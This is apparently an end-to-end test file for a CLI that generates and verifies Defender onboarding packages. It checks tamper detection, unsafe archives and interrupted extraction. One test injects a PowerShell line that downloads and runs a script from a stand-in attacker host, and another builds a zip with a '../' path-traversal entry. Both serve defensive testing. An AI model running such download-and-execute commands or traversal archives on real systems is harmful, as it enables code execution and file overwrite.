import {execFileSync, spawn} from 'node:child_process'
import {mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {PROJECT_ROOT, runCli, tempHome} from '../helpers/cli.js'
import {requireTool} from '../helpers/tools.js'


const withUnzip = requireTool('unzip')
const withPython = requireTool('python3')

describe('e2e: packages (issue 3)', () => {
  const {home, cleanup} = tempHome('atpctl-e2e-pkg-')
  beforeAll(async () => {
    expect((await runCli(['init', '--location', 'eu'], {home})).code).toBe(0)
  })
  afterAll(cleanup)

  it('issue 13: --subscription means nothing to an embedded tenant: exit 4 saying to generate its own, nothing written; --method is still required', async () => {
    const before = readdirSync(home).sort()
    const sub = await runCli(['package', 'generate', 'onboarding', '--os', 'linux', '--subscription', '00000000-0000-4000-8000-00000000d001', '--json'], {home})
    expect(sub.code).toBe(4)
    expect(sub.json().error).toMatchObject({code: 'UNSUPPORTED', exitCode: 4})
    expect(sub.stderr + sub.stdout).toMatch(/without --subscription/)
    expect(readdirSync(home).sort()).toEqual(before)
    const noMethod = await runCli(['package', 'generate', 'onboarding', '--os', 'linux'], {home})
    expect(noMethod.code).toBe(2)
    expect(noMethod.stderr).toMatch(/--method/)
  })

  withUnzip.it('generate (default name in the cwd) → inspect --json → extract, all consistent; T2: no key on stdout', async () => {
    const gen = await runCli(['package', 'generate', 'onboarding', '--os', 'linux', '--method', 'local-script', '--json'], {home})
    expect(gen.code).toBe(0)
    const pkg = gen.json().package
    expect(pkg.file).toBe(join(home, 'WindowsDefenderATPOnboardingPackage.zip'))
    expect(statSync(pkg.file).mode & 0o777).toBe(0o600)
    execFileSync('unzip', ['-tq', pkg.file])
    const insp = await runCli(['package', 'inspect', pkg.file, '--json'], {home})
    expect(insp.code).toBe(0)
    expect(insp.json()).toMatchObject({kind: 'onboarding', os: 'linux', method: 'local-script', orgId: pkg.orgId, sha256: pkg.sha256, belongsToTenant: true, signer: {kind: 'tenant'}, signatures: {sha1Valid: true, sha256Valid: true}})
    const ext = await runCli(['package', 'extract', pkg.file, '--dir', join(home, 'x'), '--json'], {home})
    expect(ext.code).toBe(0)
    expect(ext.json().files).toEqual([{path: 'MicrosoftDefenderATPOnboardingLinuxServer.py', bytes: expect.any(Number)}])
    const ws = await runCli(['workspace', 'show', '--json'], {home})
    const revealed = await runCli(['workspace', 'show', '--reveal', '--json'], {home})
    expect(ws.stdout).not.toContain(revealed.json().workspace.workspaceKey)
    const list = await runCli(['package', 'list', '--json'], {home})
    expect(list.json().packages.map((p: {sha256: string}) => p.sha256)).toContain(pkg.sha256)
  })

  withPython.it('exit 7: tampered, expiring within --fail-if-expires-within, and unsafe zips (nothing extracted)', async () => {
    const off = join(home, 'off.zip')
    expect((await runCli(['package', 'generate', 'offboarding', '--os', 'windows', '--method', 'mdm', '--valid-days', '3', '--out', off], {home})).code).toBe(0)
    const soon = await runCli(['package', 'inspect', off, '--fail-if-expires-within', '7d', '--json'], {home})
    expect(soon.code).toBe(7)
    expect(soon.json().error.code).toBe('PACKAGE_EXPIRING')
    // Tamper with the loose .offboarding file: change the FILETIME by one tick.
    expect((await runCli(['package', 'extract', off, '--dir', join(home, 'offx')], {home})).code).toBe(0)
    const name = readdirSync(join(home, 'offx'))[0]
    const blob = join(home, 'offx', name)
    writeFileSync(blob, readFileSync(blob, 'utf8').replace(/(expirationTimestamp\\":\d+)(\d)/, (_m, a, d) => a + ((Number(d) + 1) % 10)))
    const tampered = await runCli(['package', 'inspect', blob], {home})
    expect(tampered.code).toBe(7)
    expect(tampered.stderr).toMatch(/^Error: .*does not match the body/m)
    expect(tampered.stdout).toMatch(/SHA-1 signature:\s+INVALID/)
    const evil = join(home, 'evil.zip')
    execFileSync('python3', ['-c', "import zipfile,sys; z=zipfile.ZipFile(sys.argv[1],'w'); z.writestr('ok.txt','x'); z.writestr('../escape.txt','x'); z.close()", evil])
    const bad = await runCli(['package', 'extract', evil, '--dir', join(home, 'evil-out')], {home})
    expect(bad.code).toBe(7)
    expect(readdirSync(home).filter((n) => n.startsWith('evil-out') || n.startsWith('.evil-out') || n === 'escape.txt')).toEqual([])
  })

  it('issue 15: a generated local script with an injected line, blob untouched, is exit 7 PACKAGE_TAMPERED naming the file and line', async () => {
    const zip = join(home, 'local.zip')
    expect((await runCli(['package', 'generate', 'onboarding', '--os', 'windows', '--method', 'local-script', '--out', zip], {home})).code).toBe(0)
    expect((await runCli(['package', 'extract', zip, '--dir', join(home, 'local')], {home})).code).toBe(0)
    const script = join(home, 'local', 'WindowsDefenderATPLocalOnboardingScript.cmd')
    const lines = readFileSync(script, 'utf8').split('\r\n')
    lines.splice(20, 0, 'powershell -NoProfile -Command "iwr https://evil.example.test/p.ps1 | iex"')
    writeFileSync(script, lines.join('\r\n'))
    const human = await runCli(['package', 'inspect', script], {home})
    expect(human.code).toBe(7)
    expect(human.stdout).toMatch(/SHA-1 signature:\s+valid/)
    expect(human.stdout).toMatch(/Carrier layout:\s+ALTERED: WindowsDefenderATPLocalOnboardingScript\.cmd line 21/)
    expect(human.stderr).toMatch(/^Error: .*'WindowsDefenderATPLocalOnboardingScript\.cmd' .*line 21 is not part of it/m)
    expect(human.stderr).toMatch(/^Try this: /m)
    expect(human.stdout + human.stderr).not.toMatch(/iex|evil\.example/)
    const json = await runCli(['package', 'inspect', script, '--json'], {home})
    expect(json.code).toBe(7)
    expect(json.json().error).toMatchObject({code: 'PACKAGE_TAMPERED', exitCode: 7})
  })

  withPython.describe('extract interrupted (issue 15)', () => {
    const BIN = join(PROJECT_ROOT, 'bin', 'run.js')
    let work: string
    let zip: string
    beforeAll(() => {
      work = mkdtempSync(join(home, 'intr-'))
      zip = join(work, 'big.zip')
      // 24 stored entries of 8 MiB: long enough to be caught mid-way, within the zip-bomb limits.
      execFileSync('python3', ['-c', "import zipfile,sys\nwith zipfile.ZipFile(sys.argv[1],'w') as z:\n  for i in range(24): z.writestr('part%02d.bin' % i, bytes(8 << 20))", zip])
    })

    /** Starts an extraction and signals it once its temporary directory holds a file. */
    async function interrupt(signal: NodeJS.Signals): Promise<{code: number | null; signal: NodeJS.Signals | null; stderr: string}> {
      const child = spawn(process.execPath, [BIN, 'package', 'extract', zip, '--dir', join(work, 'out')], {
        env: {PATH: process.env.PATH, HOME: home, ATPCTL_HOME: home, NO_COLOR: '1', CI: '1'},
        stdio: ['ignore', 'ignore', 'pipe'],
      })
      let stderr = ''
      child.stderr.on('data', (d) => (stderr += d))
      const exited = new Promise<{code: number | null; signal: NodeJS.Signals | null}>((resolve) => child.on('close', (code, sig) => resolve({code, signal: sig})))
      for (;;) {
        if (child.exitCode !== null || child.signalCode !== null) throw new Error(`the extraction ended before it could be interrupted: ${stderr}`)
        const temp = readdirSync(work).find((n) => n.startsWith('.out.extract-'))
        if (temp && readdirSync(join(work, temp)).length > 0) break
        await new Promise((r) => setTimeout(r, 5))
      }

      child.kill(signal)
      return {...(await exited), stderr}
    }

    it('SIGTERM and SIGINT: the temporary directory is removed, nothing is left beside --dir', async () => {
      for (const signal of ['SIGTERM', 'SIGINT'] as const) {
        const r = await interrupt(signal)
        expect(r.code).toBe(130)
        expect(r.stderr).toMatch(/Cancelled/)
        expect(readdirSync(work)).toEqual(['big.zip'])
      }
    })

    it('SIGKILL leaves the temporary directory; the next extraction removes it and succeeds', async () => {
      const r = await interrupt('SIGKILL')
      expect(r.signal).toBe('SIGKILL')
      expect(readdirSync(work).filter((n) => n.startsWith('.out.extract-'))).toHaveLength(1)
      const again = await runCli(['package', 'extract', zip, '--dir', join(work, 'out'), '--json'], {home})
      expect(again.code).toBe(0)
      expect(again.json().files).toHaveLength(24)
      expect(readdirSync(work).sort()).toEqual(['big.zip', 'out'])
    })

    it('a --dir that is a symbolic link and a FILE that is a directory or a FIFO: exit 2 with a hint, no hang', async () => {
      mkdirSync(join(work, 'real'))
      symlinkSync(join(work, 'real'), join(work, 'link'))
      const link = await runCli(['package', 'extract', zip, '--dir', join(work, 'link')], {home})
      expect(link.code).toBe(2)
      expect(link.stderr).toMatch(/^Error: .*symbolic link/m)
      expect(link.stderr).toMatch(/Try this:/)
      execFileSync('mkfifo', [join(work, 'fifo.zip')])
      for (const args of [['extract', join(work, 'fifo.zip'), '--dir', join(work, 'o')], ['inspect', join(work, 'fifo.zip')], ['inspect', work]]) {
        const r = await runCli(['package', ...args], {home})
        expect(r.code).toBe(2)
        expect(r.stderr).toMatch(/^Error: .*(named pipe|a directory)/m)
        expect(r.stderr).not.toMatch(/    at /)
      }
    })
  })
})
